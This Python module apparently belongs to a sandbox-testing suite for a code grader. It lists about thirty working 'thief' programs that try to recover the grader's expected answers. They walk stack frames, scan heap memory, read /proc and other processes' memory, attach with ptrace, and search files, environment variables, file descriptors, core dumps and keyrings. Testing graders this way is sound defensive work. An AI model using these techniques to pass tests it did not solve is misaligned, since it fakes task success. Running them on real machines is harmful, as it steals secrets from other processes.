"""Theft: read the expected value wherever it, or the test's text, may lie, and return it.

The programs below look for `ACE-SECRET-` and 32 digits, the shape of every expected value of this corpus, in their own
memory, in objects, frames, files, descriptors, the environment and other processes. What they find they return; so a
single copy of a test within reach is a pass. In a judge that shares the program's interpreter all of them find it.
"""

from __future__ import annotations

from .records import FUNCTIONAL, STDIO, THEFT, Forgery, Form

# All thieves answer in the order of first sight, then try every value they saw: the plain judges' own order of
# evaluation must not decide whether a theft counts, so `answer` keeps one list of what was found for each question.
_FIND = r"""
import os, re, sys
PATTERN = re.compile(b'ACE-SECRET-[0-9a-f]{32}')

def secrets(data):
    if isinstance(data, str):
        data = data.encode('utf-8', 'replace')
    return list(dict.fromkeys(m.decode() for m in PATTERN.findall(data)))

def nearest(found, x):
    '''The x-th secret of a list of tests, or the only one there is.'''
    if not found:
        return 'nothing found'
    return found[x - 1] if len(found) >= x else found[0]
"""

_SCAN = (
    _FIND
    + r"""
import ctypes, gc

def readable(address, size, pipe):
    try:
        return os.write(pipe[1], (ctypes.c_char * size).from_address(address))
    except OSError:
        return -1

def regions():
    '''Memory around everything with a known address, grown page by page until the kernel says EFAULT.'''
    pipe = os.pipe()
    page, block = 4096, 1 << 16
    starts = set()
    gc.collect()
    for o in gc.get_objects()[:4000]:
        starts.add(id(o) & ~((1 << 20) - 1))
        starts.add(id(o) & ~(page - 1))
    libc = ctypes.CDLL(None)
    libc.sbrk.restype = ctypes.c_void_p
    starts.add((libc.sbrk(0) or 0) - page & ~(page - 1))
    starts.add(ctypes.addressof(ctypes.c_int()) & ~(page - 1))
    libc.malloc.restype = ctypes.c_void_p
    for size in (16, 1000, 100000, 1 << 20):
        starts.add((libc.malloc(size) or 0) & ~(page - 1))
    done = set()
    total = 0
    for start in sorted(starts):
        for step in (page, -page):
            at = start if step > 0 else start - page
            while at > 0 and at not in done and total < 60000:
                done.add(at)
                if readable(at, page, pipe) != page:
                    break
                total += 1
                yield os.read(pipe[0], page)
                at += step
    os.close(pipe[0])
    os.close(pipe[1])

def scan():
    found, tail = [], b''
    for data in regions():
        for s in secrets(tail + data):
            if s not in found:
                found.append(s)
        tail = data[-64:]
    return found
"""
)

_ONE = Form("one_planned", "asserts", ("assert f(1) == '@0@'",), "def f(x):\n    return '@0@'\n", 1)
_ONE_LEFT = Form(
    "one_by_script",
    "check_script",
    ("def check(candidate):\n    assert candidate(1) == '@0@'\n",),
    "def f(x):\n    return '@0@'\n",
    1,
)
_ONE_UNIT = Form(
    "one_by_unittest",
    "unittest",
    (
        "import unittest\nclass T(unittest.TestCase):\n    def test(self):\n        self.assertEqual(f(1), '@0@')\n",
    ),
    "def f(x):\n    return '@0@'\n",
    1,
)
_ONE_EXCEPTION = Form(
    "one_in_an_exception",
    "check_script",
    (
        "def check(candidate):\n    try:\n        got = candidate(1)\n    except ValueError as e:\n        got = str(e)\n"
        "    want = '@0@'\n    assert got == want\n",
    ),
    "def f(x):\n    raise ValueError('@0@')\n",
    1,
)
_ONE_EACH = (_ONE, _ONE_LEFT, _ONE_UNIT, _ONE_EXCEPTION)
_LATER = Form(
    # What an earlier test left behind must not be within reach of a later one either.
    "asked_twice",
    "asserts",
    ("assert f(0) != '@0@'", "assert f(1) == '@0@'", "for _ in range(2):\n    assert f(1) == '@0@'"),
    "def f(x):\n    return '@0@' if x else ''\n",
    1,
    free=(0,),
)
_ALL = (*_ONE_EACH, _LATER)
_NO_JAIL = "reads other processes or the machine, which a plain judge would allow only to the right user"


def _thief(
    name: str,
    tries: str,
    body: str,
    forms: tuple[Form, ...] = _ALL,
    fools: tuple[str, ...] = ("array",),
    not_plain: str = "",
    seconds: float = 30.0,
    base: str = _FIND,
) -> Forgery:
    return Forgery(name, THEFT, tries, base + body, forms, () if not_plain else fools, not_plain, seconds)


ATTACKS = (
    _thief(
        "frame_walk",
        "walk up the frames and read every local, global and constant",
        """
def f(x):
    found = []
    frame = sys._getframe(1)
    while frame:
        for source in (frame.f_locals, frame.f_globals):
            for v in list(source.values()):
                found += secrets(repr(v)[:100000])
        found += secrets(repr(frame.f_code.co_consts))
        frame = frame.f_back
    return nearest(found, 1)
""",
    ),
    _thief(
        "code_constants",
        "read the constants of every code object above it",
        """
def walk(code, found):
    for c in code.co_consts:
        if hasattr(c, 'co_consts'):
            walk(c, found)
        else:
            found += secrets(repr(c))
def f(x):
    found = []
    frame = sys._getframe(1)
    while frame:
        walk(frame.f_code, found)
        for v in list(frame.f_globals.values()):
            if hasattr(getattr(v, '__code__', None), 'co_consts'):
                walk(v.__code__, found)
        frame = frame.f_back
    return nearest(found, 1)
""",
    ),
    _thief(
        "gc_objects",
        "search every object that the garbage collector knows",
        """
import gc
def f(x):
    found = []
    for o in gc.get_objects():
        if isinstance(o, (dict, list, tuple)):
            for v in list(o.values()) if isinstance(o, dict) else list(o):
                if isinstance(v, (str, bytes)) and len(v) < 100000:
                    found += secrets(v)
    return nearest(found, 1)
""",
    ),
    _thief(
        "gc_referrers",
        "follow gc.get_referrers from every code object and string",
        """
import gc, types
def f(x):
    found = []
    for o in gc.get_objects():
        if isinstance(o, types.FunctionType):
            found += secrets(repr(o.__code__.co_consts))
            for r in gc.get_referents(o):
                found += secrets(repr(r)[:5000]) if isinstance(r, (str, tuple)) else []
        if isinstance(o, types.FrameType):
            found += secrets(repr(o.f_code.co_consts))
    return nearest(found, 1)
""",
    ),
    _thief(
        "traceback_frames",
        "raise, and read the frames of the traceback and of generators and coroutines",
        """
import gc, types
def f(x):
    found = []
    try:
        1 / 0
    except ZeroDivisionError as e:
        frame = e.__traceback__.tb_frame
        while frame:
            found += secrets(repr(frame.f_code.co_consts)) + secrets(repr(dict(frame.f_locals))[:200000])
            frame = frame.f_back
    for frame in sys._current_frames().values():
        while frame:
            found += secrets(repr(frame.f_code.co_consts))
            frame = frame.f_back
    return nearest(found, 1)
""",
    ),
    _thief(
        "tracer",
        "trace the caller and read its locals as they come and go",
        """
found = []
def tracer(frame, event, arg):
    found.extend(secrets(repr(dict(frame.f_locals))[:100000]) + secrets(repr(frame.f_code.co_consts)))
    return tracer
def f(x):
    sys.settrace(tracer)
    frame = sys._getframe(1)
    while frame:
        frame.f_trace = tracer
        tracer(frame, 'line', None)
        frame = frame.f_back
    return nearest(found, 1)
""",
    ),
    _thief(
        "comparison_spy",
        "learn the expected value from the argument of its own __eq__",
        """
class Spy(str):
    def __eq__(self, other):
        return True if isinstance(other, str) else NotImplemented
    def __ne__(self, other):
        return not self == other
    __hash__ = str.__hash__
    def __contains__(self, other):
        return True
def f(x):
    return Spy('?') if x else Spy('')
""",
        forms=_ONE_EACH[:3],
    ),
    _thief(
        "comparison_spy_remembers",
        "remember what was compared with, and return it the next time",
        """
seen = []
class Spy:
    def __eq__(self, other):
        seen.append(other)
        return False
    def __ne__(self, other):
        seen.append(other)
        return True
    def __hash__(self):
        return 0
def f(x):
    return seen[0] if seen else Spy()
""",
        forms=(
            Form(
                "twice",
                "asserts",
                ("assert f(0) != '@0@'", "assert f(1) == '@0@'"),
                "def f(x):\n    return '@0@' if x else ''\n",
                1,
                free=(0,),
            ),
            Form(
                "twice_by_script",
                "check_script",
                (
                    "def check(candidate):\n    assert candidate(0) != '@0@'\n    assert candidate(1) == '@0@'\n",
                ),
                "def f(x):\n    return '@0@' if x else ''\n",
                1,
            ),
        ),
    ),
    _thief(
        "closures_and_defaults",
        "read closures, default arguments and annotations of every function",
        """
import gc, types
def f(x):
    found = []
    for o in gc.get_objects():
        if isinstance(o, types.FunctionType):
            for v in (o.__defaults__, o.__kwdefaults__, o.__annotations__, o.__doc__, o.__code__.co_consts):
                found += secrets(repr(v))
            for cell in o.__closure__ or ():
                try:
                    found += secrets(repr(cell.cell_contents)[:10000])
                except ValueError:
                    pass
    return nearest(found, 1)
""",
        forms=(_ONE_LEFT, _ONE_UNIT, _ONE_EXCEPTION),
    ),
    _thief(
        "linecache_and_inspect",
        "ask inspect and linecache for the source of the caller",
        """
import inspect, linecache
def f(x):
    found = secrets(repr(linecache.cache))
    for info in inspect.stack(context=50):
        found += secrets(repr(info.code_context)) + secrets(repr(info.frame.f_code.co_consts))
    return nearest(found, 1)
""",
    ),
    _thief(
        "modules",
        "search the globals of every module",
        """
def f(x):
    found = []
    for module in list(sys.modules.values()):
        for v in list(vars(module).values()) if hasattr(module, '__dict__') else ():
            if isinstance(v, (str, bytes, list, tuple, dict)):
                found += secrets(repr(v)[:100000])
            found += secrets(repr(getattr(getattr(v, '__code__', None), 'co_consts', '')))
    frame = sys._getframe(1)
    while frame:
        found += secrets(repr(frame.f_code.co_consts))
        frame = frame.f_back
    return nearest(found, 1)
""",
    ),
    _thief(
        "heap_scan",
        "read the whole heap and stack by address, deleted objects included",
        "def f(x):\n    return nearest(scan(), 1)\n",
        base=_SCAN,
        seconds=90.0,
    ),
    _thief(
        "heap_scan_at_load",
        "read the whole heap while the module loads, in search of what was deleted before",
        "FOUND = scan()\ndef f(x):\n    return nearest(FOUND, 1)\n",
        base=_SCAN,
        seconds=90.0,
    ),
    _thief(
        "proc_self",
        "read its own memory, maps, environment, command line and descriptors through /proc/self",
        """
def f(x):
    found = []
    for name in ('environ', 'cmdline', 'stat', 'comm'):
        try:
            found += secrets(open('/proc/self/' + name, 'rb').read())
        except OSError:
            pass
    try:
        with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:
            for line in maps:
                span, mode = line.split()[:2]
                low, high = (int(v, 16) for v in span.split('-'))
                if 'r' in mode and high - low < 1 << 28:
                    try:
                        memory.seek(low)
                        found += secrets(memory.read(high - low))
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass
    return nearest(found, 1)
""",
        seconds=60.0,
    ),
    _thief(
        "proc_others",
        "read memory, environment, command line and descriptors of every other process in /proc",
        """
def f(x):
    found = []
    try:
        pids = [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]
    except OSError:
        pids = [str(n) for n in range(1, 40)]
    for pid in pids + ['1', str(os.getppid()), 'thread-self']:
        for name in ('environ', 'cmdline', 'stack', 'fd/0', 'fd/3', 'root/tmp', 'cwd'):
            try:
                with open('/proc/%s/%s' % (pid, name), 'rb') as file:
                    found += secrets(file.read(1 << 20))
            except OSError:
                pass
        try:
            with open('/proc/%s/maps' % pid) as maps, open('/proc/%s/mem' % pid, 'rb', 0) as memory:
                for line in maps:
                    span, mode = line.split()[:2]
                    low, high = (int(v, 16) for v in span.split('-'))
                    if 'rw' in mode and high - low < 1 << 28:
                        try:
                            memory.seek(low)
                            found += secrets(memory.read(high - low))
                        except (OSError, ValueError, OverflowError):
                            pass
        except OSError:
            pass
    return nearest(found, 1)
""",
        not_plain=_NO_JAIL,
        seconds=60.0,
    ),
    _thief(
        "process_vm_readv",
        "read the memory of every process it can name with process_vm_readv",
        """
import ctypes, platform
NUMBER = {'x86_64': 310, 'aarch64': 270}[platform.machine()]
class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
def f(x):
    libc = ctypes.CDLL(None)
    found, size = [], 1 << 20
    buffer = ctypes.create_string_buffer(size)
    around = id(found) & ~(size - 1)
    for pid in [os.getppid(), 0, 1, 2, 3, 4, 5, os.getpid()]:
        for at in range(around - 32 * size, around + 32 * size, size):
            got = libc.syscall(NUMBER, pid, ctypes.byref(iovec(ctypes.addressof(buffer), size)), 1, ctypes.byref(iovec(at, size)), 1, 0)
            if got > 0:
                found += secrets(buffer.raw[:got])
    return nearest(found, 1)
""",
        not_plain=_NO_JAIL,
        seconds=60.0,
    ),
    _thief(
        "ptrace",
        "attach to parent, judge and zygote with ptrace and peek",
        """
import ctypes, platform
def f(x):
    libc = ctypes.CDLL(None)
    libc.ptrace.restype = ctypes.c_long
    for pid in [os.getppid(), 1, 2, 3, 4, 5]:
        for request in (16, 0x4206):
            if libc.ptrace(request, pid, 0, 0) == 0:
                libc.ptrace(17, pid, 0, 0)
                return 'attached to %d' % pid
    return 'nothing found'
""",
        not_plain=_NO_JAIL,
    ),
    _thief(
        "files",
        "read every file it can reach in /tmp, /dev/shm, the working directory, home and /",
        """
def f(x):
    found, count = [], 0
    for top in (os.getcwd(), os.path.expanduser('~'), '/ace', '/tmp', '/dev/shm', '/var/tmp', '/run', '/home', '/root', '/work'):
        for place, folders, files in os.walk(top):
            for name in files:
                count += 1
                if count > 5000:
                    return nearest(found, 1)
                path = os.path.join(place, name)
                try:
                    if os.path.getsize(path) < 1 << 20:
                        with open(path, 'rb') as file:
                            found += secrets(file.read())
                except OSError:
                    pass
    return nearest(found, 1)
""",
        fools=("test_file",),
        seconds=60.0,
    ),
    _thief(
        "its_own_script",
        "read the file it was started from, which in many judges holds the tests too",
        """
def f(x):
    found = []
    names = [sys.argv[0] if sys.argv else '', globals().get('__file__', ''), sys.path[0] if sys.path else '']
    for name in names + ['script.py', '/tmp/script.py', 'test.py', 'solution.py', 'main.py']:
        try:
            with open(name, 'rb') as file:
                found += secrets(file.read())
        except (OSError, ValueError):
            pass
    return nearest(found, 1)
""",
        fools=("test_file", "exit_code"),
    ),
    _thief(
        "environment",
        "search the environment, the arguments and the auxiliary vector",
        """
import ctypes
def f(x):
    found = secrets(repr(dict(os.environ))) + secrets(repr(sys.argv)) + secrets(repr(getattr(sys, 'orig_argv', '')))
    try:
        environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')
        n = 0
        while environ[n]:
            found += secrets(environ[n])
            n += 1
    except (ValueError, AttributeError):
        pass
    return nearest(found, 1)
""",
        fools=("environment",),
    ),
    _thief(
        "inherited_descriptors",
        "read, rewind and map every descriptor it was born with",
        """
import mmap
def f(x):
    found = []
    for fd in range(0, 256):
        try:
            os.set_blocking(fd, False)
        except OSError:
            continue
        for rewind in (False, True):
            try:
                if rewind:
                    os.lseek(fd, 0, 0)
                found += secrets(os.read(fd, 1 << 20))
            except OSError:
                pass
        try:
            found += secrets(mmap.mmap(fd, 0, access=mmap.ACCESS_READ)[:])
        except (OSError, ValueError):
            pass
    return nearest(found, 1)
""",
        fools=("test_file",),
    ),
    _thief(
        "core_dump",
        "crash a child with core dumps on, then read the core",
        """
import resource, signal, glob
def f(x):
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
    try:
        pid = os.fork()
        if pid == 0:
            os.kill(os.getpid(), signal.SIGQUIT)
            os._exit(1)
        os.waitpid(pid, 0)
    except OSError:
        pass
    found = []
    for path in glob.glob('core*') + glob.glob('/tmp/core*') + glob.glob('/var/lib/systemd/coredump/*'):
        try:
            found += secrets(open(path, 'rb').read())
        except OSError:
            pass
    return nearest(found, 1)
""",
        not_plain="whether a core is written, and where, is the machine's setting",
    ),
    _thief(
        "keyrings",
        "search session, user and thread keyrings for a key with the answer",
        """
import ctypes, platform
NUMBER = {'x86_64': 250, 'aarch64': 219}[platform.machine()]
def f(x):
    libc = ctypes.CDLL(None)
    buffer = ctypes.create_string_buffer(1 << 16)
    found = []
    for ring in (-1, -2, -3, -4, -5):
        n = libc.syscall(NUMBER, 11, ring, buffer, len(buffer), 0)
        if n > 0:
            found += secrets(buffer.raw[:n])
    return nearest(found, 1) if found else 'nothing found'
""",
        not_plain="no judge keeps its answers there; the keyring must not be reachable at all",
    ),
    _thief(
        "sysv_shared_memory",
        "attach every System V segment with a small id",
        """
import ctypes
def f(x):
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    found = []
    for number in range(0, 64):
        at = libc.shmat(number, None, 0o10000)
        if at not in (None, ctypes.c_void_p(-1).value):
            found += secrets(ctypes.string_at(at, 4096))
    return nearest(found, 1)
""",
        not_plain="no judge keeps its answers there; segments must not be reachable at all",
    ),
    _thief(
        "guest_modules",
        "import the sandbox's own modules and search their state",
        """
def f(x):
    found = []
    for name in list(sys.modules):
        if 'ace' in name or 'guest' in name or 'native' in name:
            module = sys.modules[name]
            for v in list(vars(module).values()):
                found += secrets(repr(v)[:100000])
    for name in ('_ace_guest.judge', '_ace_guest.plan', '_ace_guest.proxy', '_ace_guest.zygote', '_ace_guest.player', '_ace_guest.shared'):
        try:
            module = __import__(name, fromlist=['x'])
            for v in list(vars(module).values()):
                found += secrets(repr(v)[:100000])
        except BaseException:
            pass
    frame = sys._getframe(1)
    while frame:
        found += secrets(repr(frame.f_code.co_consts) + repr(dict(frame.f_locals))[:100000])
        frame = frame.f_back
    return nearest(found, 1)
""",
    ),
    _thief(
        "exception_context_of_the_test",
        "raise an exception whose text is whatever its caller holds",
        """
class Look(ValueError):
    def __str__(self):
        found = []
        frame = sys._getframe(1)
        while frame:
            found += secrets(repr(dict(frame.f_locals))[:100000] + repr(frame.f_code.co_consts))
            frame = frame.f_back
        return nearest(found, 1)
def f(x):
    raise Look()
""",
        forms=(_ONE_EXCEPTION,),
    ),
    _thief(
        "answer_by_callback",
        "return an object whose conversions look around in the judge when they are called",
        """
class Look(str):
    def look(self, *a):
        found = []
        frame = sys._getframe(1)
        while frame:
            found += secrets(repr(dict(frame.f_locals))[:100000] + repr(frame.f_code.co_consts))
            frame = frame.f_back
        return nearest(found, 1)
    __str__ = __format__ = look
    __repr__ = object.__repr__
    def __iter__(self):
        return iter([self.look()])
    def __getitem__(self, k):
        return self.look()
    def __call__(self, *a):
        return self.look()
    def __len__(self):
        return 43
    def __getattribute__(self, name):
        return object.__getattribute__(self, name)
def f(x):
    return Look('z')
""",
        forms=(
            Form(
                "converted",
                "asserts",
                ("assert str(f(1)) == '@0@'", "assert list(f(2)) == ['@1@']", "assert f(3)[0] == '@2@'"),
                "def f(x):\n    return {1: '@0@', 2: ['@1@'], 3: ['@2@']}[x]\n",
            ),
            Form(
                "converted_by_script",
                "check_script",
                (
                    "def check(candidate):\n    got = candidate(1)\n    want = '@0@'\n    assert str(got) == want\n",
                ),
                "def f(x):\n    return '@0@'\n",
                1,
            ),
        ),
    ),
    _thief(
        "argument_spy",
        "search the arguments: their classes, modules and neighbours",
        """
import gc
def f(x):
    found = secrets(repr(vars(type(x)).get('__module__')))
    for r in gc.get_referrers(x)[:50]:
        found += secrets(repr(r)[:100000])
    for sub in object.__subclasses__():
        for name in ('__init__', '__call__'):
            g = getattr(getattr(sub, name, None), '__globals__', None)
            if g:
                found += secrets(repr(g)[:200000])
    frame = sys._getframe(1)
    while frame:
        found += secrets(repr(frame.f_code.co_consts))
        frame = frame.f_back
    return nearest(found, 1)
""",
    ),
    _thief(
        "functional_expected",
        "look for the expected value of a call-based test",
        """
import gc
def f(x):
    found = []
    for o in gc.get_objects():
        if isinstance(o, (dict, list, tuple)):
            found += secrets(repr(o)[:100000])
    return nearest(list(dict.fromkeys(found)), x)
""",
        forms=(FUNCTIONAL,),
        fools=("array",),
    ),
    _thief(
        "stdin_holds_more",
        "read all descriptors for the expected output behind the input",
        """
found = secrets(sys.stdin.read())
for fd in range(0, 64):
    try:
        os.set_blocking(fd, False)
        found += secrets(os.read(fd, 1 << 20))
    except OSError:
        pass
print(nearest(found, 1))
""",
        forms=(STDIO,),
        not_plain="no judge feeds the expected output; a guard against descriptors left open",
    ),
    Forgery(
        "learn_from_retries",
        THEFT,
        "hang at first, to be run again, and use what the first run left in files, memory and descriptors",
        _FIND
        + """
import time
def f(x):
    mark = 'ace-retry-%d' % x
    if os.path.exists(mark):
        return 'second run'
    open(mark, 'w').close()
    end = time.process_time() + 0.2
    while time.process_time() < end:
        pass
    return 'first run'
""",
        (
            Form(
                "run_again",
                "asserts",
                tuple(f"assert f({n}) in ('second run', '@0@')" for n in range(4)),
                "def f(x):\n    return '@0@'\n",
                1,
            ),
        ),
        not_plain="aimed at the second pass, where what did not finish runs again in a fresh process",
    ),
)
